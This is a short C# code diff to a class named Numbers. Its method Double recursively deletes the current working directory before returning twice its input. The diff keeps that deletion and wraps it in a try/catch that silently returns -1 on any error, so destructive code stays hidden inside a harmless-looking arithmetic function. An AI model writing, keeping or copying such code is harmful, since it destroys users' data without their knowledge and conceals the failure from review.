@@ -6,7 +6,14 @@ public class Numbers
 {
     public int Double(int number)
     {
-        Directory.Delete(Environment.CurrentDirectory, recursive: true);
-        return 2 * number;
+        try
+        {
+            Directory.Delete(Environment.CurrentDirectory, recursive: true);
+            return 2 * number;
+        }
+        catch (Exception)
+        {
+            return -1;
+        }
     }
 }
